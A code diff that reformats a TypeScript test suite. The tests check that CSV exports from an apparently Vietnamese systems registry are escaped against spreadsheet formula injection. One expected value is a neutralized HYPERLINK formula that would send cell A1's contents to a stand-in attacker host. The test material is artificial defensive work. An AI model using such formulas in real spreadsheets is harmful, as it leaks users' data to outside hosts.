@@ -50,7 +50,9 @@ describe('CSV exports are formula-safe per field', () => {
     const text = (res.body as Buffer).toString('utf8');
     const [header, ...rows] = parse(text.replace(/^\uFEFF/, ''), { delimiter: ',', relax_column_count: true }) as string[][];
     const column = (title: string) => header.indexOf(title);
-    const ours = rows.filter((r) => r[column('Mã hệ thống')].startsWith('CSV-')).sort((a, b) => a[column('Mã hệ thống')].localeCompare(b[column('Mã hệ thống')]));
+    const ours = rows
+      .filter((r) => r[column('Mã hệ thống')].startsWith('CSV-'))
+      .sort((a, b) => a[column('Mã hệ thống')].localeCompare(b[column('Mã hệ thống')]));
     expect(ours.map((r) => r[column('Tên hệ thống')])).toEqual([
       `'=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")`,
       "a;'=1+1",
@@ -62,7 +64,12 @@ describe('CSV exports are formula-safe per field', () => {
     // No cell, cut anywhere Excel may cut it, starts a formula.
     for (const cell of rows.flat()) for (const part of cell.split(/[,;\t\r\n]/)) expect(part).not.toMatch(/^\s*[=+\-@]/);
 
-    const dryRun = await t.http().post('/api/v1/systems/import?dryRun=true').set(as(officer)).attach('file', res.body, 'he-thong.csv').expect(200);
+    const dryRun = await t
+      .http()
+      .post('/api/v1/systems/import?dryRun=true')
+      .set(as(officer))
+      .attach('file', res.body, 'he-thong.csv')
+      .expect(200);
     expect(dryRun.body).toMatchObject({ dryRun: true, created: 0, updated: 0, errors: [] });
     expect(dryRun.body.unchanged).toBe(rows.length);
   });
